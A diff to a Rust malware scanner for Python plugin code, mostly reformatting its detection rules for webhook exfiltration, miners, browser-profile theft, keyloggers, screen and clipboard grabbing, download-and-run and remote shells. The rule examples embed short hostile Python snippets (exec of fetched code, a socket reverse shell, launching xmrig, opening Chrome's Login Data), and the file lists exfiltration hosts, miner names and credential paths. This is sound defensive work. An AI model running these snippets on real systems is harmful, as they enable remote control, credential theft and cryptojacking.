@@ -6,8 +6,17 @@ use crate::scan::python::source::Hit;
 use crate::scan::rules::{Example, Rule};
 
 pub(in crate::scan) const RULES: &[Rule] = &[
-    PY_WEBHOOK, PY_MINER, PY_BROWSER_PROFILE, PY_CLIPBOARD, PY_SCREEN, PY_KEYLOGGER, PY_SELF_COPY, PY_DOWNLOAD_AND_RUN, PY_REMOTE_SHELL,
-    PY_CATCHER, PY_BARE_ADDRESS,
+    PY_WEBHOOK,
+    PY_MINER,
+    PY_BROWSER_PROFILE,
+    PY_CLIPBOARD,
+    PY_SCREEN,
+    PY_KEYLOGGER,
+    PY_SELF_COPY,
+    PY_DOWNLOAD_AND_RUN,
+    PY_REMOTE_SHELL,
+    PY_CATCHER,
+    PY_BARE_ADDRESS,
 ];
 
 pub(in crate::scan) const PY_WEBHOOK: Rule = Rule {
@@ -19,8 +28,12 @@ pub(in crate::scan) const PY_WEBHOOK: Rule = Rule {
     why: "Stolen data goes to chat services since nobody blocks them.",
     fix: "Let the user name the webhook, or do not run this node.",
     examples: &[
-        Example::found("import urllib.request as u\nu.urlopen(u.Request('https://discord.com/api/webhooks/x', data=b''))\n"),
-        Example::found("import requests\nrequests.get(f'https://api.telegram.org/bot{t}/sendMessage')\n"),
+        Example::found(
+            "import urllib.request as u\nu.urlopen(u.Request('https://discord.com/api/webhooks/x', data=b''))\n",
+        ),
+        Example::found(
+            "import requests\nrequests.get(f'https://api.telegram.org/bot{t}/sendMessage')\n",
+        ),
         Example::twin("import requests\nrequests.get('https://discord.com/invite/x')\n"),
         Example::twin("print('https://discord.com/api/webhooks/…')\n"),
     ],
@@ -64,7 +77,9 @@ pub(in crate::scan) const PY_MINER: Rule = Rule {
     why: "It uses the graphics card for somebody else.",
     fix: "Do not run this node.",
     examples: &[
-        Example::found("import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool:3333'])\n"),
+        Example::found(
+            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool:3333'])\n",
+        ),
         Example::twin("print('xmrig')\n"),
     ],
 };
@@ -78,7 +93,9 @@ pub(in crate::scan) const PY_BROWSER_PROFILE: Rule = Rule {
     why: "Cookies and passwords are in it.",
     fix: "Do not run this node.",
     examples: &[
-        Example::found("import os\nopen(os.path.join(home, 'AppData/Local/Google/Chrome/User Data/Default/Login Data'), 'rb')\n"),
+        Example::found(
+            "import os\nopen(os.path.join(home, 'AppData/Local/Google/Chrome/User Data/Default/Login Data'), 'rb')\n",
+        ),
         Example::found("import sqlite3\nsqlite3.connect(p + '/cookies.sqlite')\n"),
         Example::twin("open('data.sqlite')\n"),
     ],
@@ -152,8 +169,12 @@ pub(in crate::scan) const PY_DOWNLOAD_AND_RUN: Rule = Rule {
     fix: "Do not run this node.",
     examples: &[
         Example::found("import requests\nexec(requests.get(u).text)\n"),
-        Example::found("import urllib.request, os\ncmd = urllib.request.urlopen(u).read().decode()\nos.system(cmd)\n"),
-        Example::found("import urllib.request, subprocess\nurllib.request.urlretrieve(u, '/tmp/x')\nsubprocess.call('/tmp/x')\n"),
+        Example::found(
+            "import urllib.request, os\ncmd = urllib.request.urlopen(u).read().decode()\nos.system(cmd)\n",
+        ),
+        Example::found(
+            "import urllib.request, subprocess\nurllib.request.urlretrieve(u, '/tmp/x')\nsubprocess.call('/tmp/x')\n",
+        ),
         Example::twin("import requests, json\njson.loads(requests.get(u).text)\n"),
     ],
 };
@@ -167,37 +188,124 @@ pub(in crate::scan) const PY_REMOTE_SHELL: Rule = Rule {
     why: "Somebody elsewhere then types commands on this machine.",
     fix: "Do not run this node.",
     examples: &[
-        Example::found("import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n"),
-        Example::found("import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\nsubprocess.run(s.recv(9), shell=True)\n"),
+        Example::found(
+            "import os, socket\ns = socket.socket()\ns.connect(('x', 1))\nos.dup2(s.fileno(), 0)\n",
+        ),
+        Example::found(
+            "import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\nsubprocess.run(s.recv(9), shell=True)\n",
+        ),
         Example::twin("import os\nos.dup2(1, 2)\n"),
     ],
 };
 
 pub(in crate::scan::python) const CALLS: &[CallRule] = &[
     CallRule {
-        names: &["pyperclip.paste", "pyperclip.copy", "win32clipboard.GetClipboardData", "win32clipboard.OpenClipboard", "PIL.ImageGrab.grabclipboard", "clipboard.paste", "tkinter.Tk().clipboard_get", "pyperclip.waitForNewPaste", "xerox.paste", "ImageGrab.grabclipboard", "pandas.read_clipboard", "?clipboard.paste", "ctypes.windll.user32.OpenClipboard", "ctypes.windll.user32.GetClipboardData", "pyperclip.waitForPaste"],
-        judge: |call| Some(Hit::of(&PY_CLIPBOARD, format!("{}() uses the clipboard.", call.shown()))),
-    },
-    CallRule {
-        names: &["PIL.ImageGrab.grab", "ImageGrab.grab", "mss.mss", "pyautogui.screenshot", "pyscreenshot.grab", "dxcam.create", "d3dshot.create", "mss.mss().grab", "mss.mss().shot", "pyscreeze.screenshot", "win32gui.GetWindowDC", "screenshot.grab", "?pyautogui.screenshot", "mss.tools.to_png", "ctypes.windll.gdi32.BitBlt", "win32ui.CreateDCFromHandle"],
-        judge: |call| Some(Hit::of(&PY_SCREEN, format!("{}() takes a picture of the screen.", call.shown()))),
-    },
-    CallRule {
-        names: &["pynput.keyboard.Listener", "pynput.mouse.Listener", "keyboard.on_press", "keyboard.hook", "keyboard.on_release", "pyHook.HookManager", "pyxhook.HookManager", "ctypes.windll.user32.SetWindowsHookExA", "ctypes.windll.user32.SetWindowsHookExW", "ctypes.windll.user32.GetAsyncKeyState", "keyboard.record", "evdev.InputDevice", "pynput.keyboard.GlobalHotKeys", "win32api.GetAsyncKeyState"],
-        judge: |call| Some(Hit::of(&PY_KEYLOGGER, format!("{}() records what is typed.", call.shown()))),
-    },
-    CallRule {
-        names: &["shutil.copy", "shutil.copy2", "shutil.copyfile", "os.link", "os.symlink", "shutil.move"],
+        names: &[
+            "pyperclip.paste",
+            "pyperclip.copy",
+            "win32clipboard.GetClipboardData",
+            "win32clipboard.OpenClipboard",
+            "PIL.ImageGrab.grabclipboard",
+            "clipboard.paste",
+            "tkinter.Tk().clipboard_get",
+            "pyperclip.waitForNewPaste",
+            "xerox.paste",
+            "ImageGrab.grabclipboard",
+            "pandas.read_clipboard",
+            "?clipboard.paste",
+            "ctypes.windll.user32.OpenClipboard",
+            "ctypes.windll.user32.GetClipboardData",
+            "pyperclip.waitForPaste",
+        ],
         judge: |call| {
-            let own = call.positional.first().and_then(|v| v.name()).is_some_and(|n| n == "__file__" || n == "sys.argv[]");
+            Some(Hit::of(
+                &PY_CLIPBOARD,
+                format!("{}() uses the clipboard.", call.shown()),
+            ))
+        },
+    },
+    CallRule {
+        names: &[
+            "PIL.ImageGrab.grab",
+            "ImageGrab.grab",
+            "mss.mss",
+            "pyautogui.screenshot",
+            "pyscreenshot.grab",
+            "dxcam.create",
+            "d3dshot.create",
+            "mss.mss().grab",
+            "mss.mss().shot",
+            "pyscreeze.screenshot",
+            "win32gui.GetWindowDC",
+            "screenshot.grab",
+            "?pyautogui.screenshot",
+            "mss.tools.to_png",
+            "ctypes.windll.gdi32.BitBlt",
+            "win32ui.CreateDCFromHandle",
+        ],
+        judge: |call| {
+            Some(Hit::of(
+                &PY_SCREEN,
+                format!("{}() takes a picture of the screen.", call.shown()),
+            ))
+        },
+    },
+    CallRule {
+        names: &[
+            "pynput.keyboard.Listener",
+            "pynput.mouse.Listener",
+            "keyboard.on_press",
+            "keyboard.hook",
+            "keyboard.on_release",
+            "pyHook.HookManager",
+            "pyxhook.HookManager",
+            "ctypes.windll.user32.SetWindowsHookExA",
+            "ctypes.windll.user32.SetWindowsHookExW",
+            "ctypes.windll.user32.GetAsyncKeyState",
+            "keyboard.record",
+            "evdev.InputDevice",
+            "pynput.keyboard.GlobalHotKeys",
+            "win32api.GetAsyncKeyState",
+        ],
+        judge: |call| {
+            Some(Hit::of(
+                &PY_KEYLOGGER,
+                format!("{}() records what is typed.", call.shown()),
+            ))
+        },
+    },
+    CallRule {
+        names: &[
+            "shutil.copy",
+            "shutil.copy2",
+            "shutil.copyfile",
+            "os.link",
+            "os.symlink",
+            "shutil.move",
+        ],
+        judge: |call| {
+            let own = call
+                .positional
+                .first()
+                .and_then(|v| v.name())
+                .is_some_and(|n| n == "__file__" || n == "sys.argv[]");
             own.then(|| Hit::of(&PY_SELF_COPY, "The code copies its own file."))
         },
     },
     CallRule {
         names: &["os.dup2"],
         judge: |call| {
-            let socket = call.positional.first().and_then(|v| v.name()).is_some_and(|n| n.contains("socket") && n.ends_with(".fileno()"));
-            socket.then(|| Hit::of(&PY_REMOTE_SHELL, "A network connection becomes the input of programs."))
+            let socket = call
+                .positional
+                .first()
+                .and_then(|v| v.name())
+                .is_some_and(|n| n.contains("socket") && n.ends_with(".fileno()"));
+            socket.then(|| {
+                Hit::of(
+                    &PY_REMOTE_SHELL,
+                    "A network connection becomes the input of programs.",
+                )
+            })
         },
     },
 ];
@@ -220,12 +328,15 @@ fn bare_address(text: &str) -> Option<&str> {
     let authority = rest.split(['/', '?', '#']).next()?;
     let host = authority.rsplit('@').next()?;
     if let Some(inner) = host.strip_prefix('[') {
-        let address: std::net::Ipv6Addr = inner.split(']').next()?.parse().ok()?;
+        let address: core::net::Ipv6Addr = inner.split(']').next()?.parse().ok()?;
         return (!address.is_loopback() && !address.is_unspecified()).then_some(host);
     }
     let host = host.split(':').next()?;
-    let address: std::net::Ipv4Addr = host.parse().ok()?;
-    let near = address.is_loopback() || address.is_private() || address.is_unspecified() || address.is_link_local();
+    let address: core::net::Ipv4Addr = host.parse().ok()?;
+    let near = address.is_loopback()
+        || address.is_private()
+        || address.is_unspecified()
+        || address.is_link_local();
     (!near).then_some(host)
 }
 
@@ -238,8 +349,12 @@ fn collect_texts(value: &super::Value, depth: u8, texts: &mut Vec<String>) {
         return;
     }
     match &value.what {
-        What::List(items, _) => items.iter().for_each(|v| collect_texts(v, depth + 1, texts)),
-        What::Dict(items, _) => items.iter().for_each(|(_, v)| collect_texts(v, depth + 1, texts)),
+        What::List(items, _) => items
+            .iter()
+            .for_each(|v| collect_texts(v, depth + 1, texts)),
+        What::Dict(items, _) => items
+            .iter()
+            .for_each(|(_, v)| collect_texts(v, depth + 1, texts)),
         _ => {}
     }
 }
@@ -249,34 +364,144 @@ fn judge_address(text: &str) -> Option<Hit> {
     if has("stratum+tcp") || has("stratum+ssl") {
         return Some(Hit::of(&PY_MINER, "The code connects to a pool of miners."));
     }
-    let webhook = has("discord.com/api/webhooks/") || has("discordapp.com/api/webhooks/") || has("canary.discord.com/api/webhooks")
-        || has("api.telegram.org/bot") || has("hooks.slack.com/services/") || has("hooks.slack.com/workflows/");
+    let webhook = has("discord.com/api/webhooks/")
+        || has("discordapp.com/api/webhooks/")
+        || has("canary.discord.com/api/webhooks")
+        || has("api.telegram.org/bot")
+        || has("hooks.slack.com/services/")
+        || has("hooks.slack.com/workflows/");
     if webhook {
-        return Some(Hit::of(&PY_WEBHOOK, "Data goes to a webhook that is written in the source."));
+        return Some(Hit::of(
+            &PY_WEBHOOK,
+            "Data goes to a webhook that is written in the source.",
+        ));
     }
     const CATCHERS: &[&str] = &[
-        "webhook.site", "requestbin", "pipedream.net", ".ngrok.io", ".ngrok-free.app", ".ngrok.app", "burpcollaborator.net", "oastify.com", ".oast.", "interact.sh", "requestcatcher.com", "beeceptor.com", "hookbin.com", "canarytokens.com", "ptsv2.com", ".trycloudflare.com", "serveo.net",
-        "pastebin.com/raw", "paste.ee/r/", "rentry.co/", "hastebin.com/raw", "transfer.sh", "anonfiles.com", "gofile.io", "file.io", "0x0.st", "grabify.link", "iplogger.", "api.ipify.org", "ifconfig.me", "dpaste.com", "cdn.discordapp.com/attachments", "catbox.moe", "bashupload.com", "dnslog.cn", "ceye.io", ".onion", "bit.ly/",
+        "webhook.site",
+        "requestbin",
+        "pipedream.net",
+        ".ngrok.io",
+        ".ngrok-free.app",
+        ".ngrok.app",
+        "burpcollaborator.net",
+        "oastify.com",
+        ".oast.",
+        "interact.sh",
+        "requestcatcher.com",
+        "beeceptor.com",
+        "hookbin.com",
+        "canarytokens.com",
+        "ptsv2.com",
+        ".trycloudflare.com",
+        "serveo.net",
+        "pastebin.com/raw",
+        "paste.ee/r/",
+        "rentry.co/",
+        "hastebin.com/raw",
+        "transfer.sh",
+        "anonfiles.com",
+        "gofile.io",
+        "file.io",
+        "0x0.st",
+        "grabify.link",
+        "iplogger.",
+        "api.ipify.org",
+        "ifconfig.me",
+        "dpaste.com",
+        "cdn.discordapp.com/attachments",
+        "catbox.moe",
+        "bashupload.com",
+        "dnslog.cn",
+        "ceye.io",
+        ".onion",
+        "bit.ly/",
     ];
     if let Some(host) = bare_address(text) {
-        return Some(Hit::of(&PY_BARE_ADDRESS, format!("The code connects to {host}, an address without a name.")));
+        return Some(Hit::of(
+            &PY_BARE_ADDRESS,
+            format!("The code connects to {host}, an address without a name."),
+        ));
     }
-    let catcher = CATCHERS.iter().find(|c| text.starts_with("http") && has(c) || text.ends_with(*c))?;
-    let quiet = matches!(*catcher, "api.ipify.org" | "ifconfig.me" | "catbox.moe" | "file.io" | "gofile.io");
-    let hit = Hit::of(&PY_CATCHER, format!("The code connects to {catcher}, which hides who receives."));
+    let catcher = CATCHERS
+        .iter()
+        .find(|c| text.starts_with("http") && has(c) || text.ends_with(*c))?;
+    let quiet = matches!(
+        *catcher,
+        "api.ipify.org" | "ifconfig.me" | "catbox.moe" | "file.io" | "gofile.io"
+    );
+    let hit = Hit::of(
+        &PY_CATCHER,
+        format!("The code connects to {catcher}, which hides who receives."),
+    );
     Some(if quiet { hit.at(Severity::Medium) } else { hit })
 }
 
 /// What naming a path or a program shows; a miner that is only looked for is none.
 pub(in crate::scan::python) fn judge_text(text: &str, used: bool) -> Option<Hit> {
     let plain = text.replace('\\', "/").to_ascii_lowercase();
-    const MINERS: &[&str] = &["xmrig", "stratum+tcp", "stratum+ssl", "lolminer", "nbminer", "phoenixminer", "t-rex -a", "minerd", "cpuminer", "ethminer", "rigel -a", "srbminer", "moneroocean", "supportxmr", "nanopool.org", "2miners.com", "nicehash.com", "cryptonight", "randomx"];
+    const MINERS: &[&str] = &[
+        "xmrig",
+        "stratum+tcp",
+        "stratum+ssl",
+        "lolminer",
+        "nbminer",
+        "phoenixminer",
+        "t-rex -a",
+        "minerd",
+        "cpuminer",
+        "ethminer",
+        "rigel -a",
+        "srbminer",
+        "moneroocean",
+        "supportxmr",
+        "nanopool.org",
+        "2miners.com",
+        "nicehash.com",
+        "cryptonight",
+        "randomx",
+    ];
     if let Some(miner) = MINERS.iter().find(|m| used && plain.contains(**m)) {
-        return Some(Hit::of(&PY_MINER, format!("A miner of coins is named: {miner}.")));
+        return Some(Hit::of(
+            &PY_MINER,
+            format!("A miner of coins is named: {miner}."),
+        ));
     }
     const PROFILES: &[&str] = &[
-        "/login data", "/local state", "cookies.sqlite", "logins.json", "key4.db", "key3.db", "/network/cookies", "wallet.dat", "local storage/leveldb", "chrome/user data", "brave-browser/user data", "edge/user data", "firefox/profiles", ".mozilla/firefox", ".config/google-chrome", "opera stable", "/web data", "local extension settings", "exodus.wallet", "electrum/wallets", "atomic/local storage", "signons.sqlite", "application support/google/chrome", "application support/firefox", "metamask", "discord/local storage",
+        "/login data",
+        "/local state",
+        "cookies.sqlite",
+        "logins.json",
+        "key4.db",
+        "key3.db",
+        "/network/cookies",
+        "wallet.dat",
+        "local storage/leveldb",
+        "chrome/user data",
+        "brave-browser/user data",
+        "edge/user data",
+        "firefox/profiles",
+        ".mozilla/firefox",
+        ".config/google-chrome",
+        "opera stable",
+        "/web data",
+        "local extension settings",
+        "exodus.wallet",
+        "electrum/wallets",
+        "atomic/local storage",
+        "signons.sqlite",
+        "application support/google/chrome",
+        "application support/firefox",
+        "metamask",
+        "discord/local storage",
     ];
-    let profile = PROFILES.iter().find(|p| plain.contains(**p) || plain == p.trim_start_matches('/'))?;
-    Some(Hit::of(&PY_BROWSER_PROFILE, format!("A browser's profile or a wallet is named: {}.", profile.trim_start_matches('/'))))
+    let profile = PROFILES
+        .iter()
+        .find(|p| plain.contains(**p) || plain == p.trim_start_matches('/'))?;
+    Some(Hit::of(
+        &PY_BROWSER_PROFILE,
+        format!(
+            "A browser's profile or a wallet is named: {}.",
+            profile.trim_start_matches('/')
+        ),
+    ))
 }
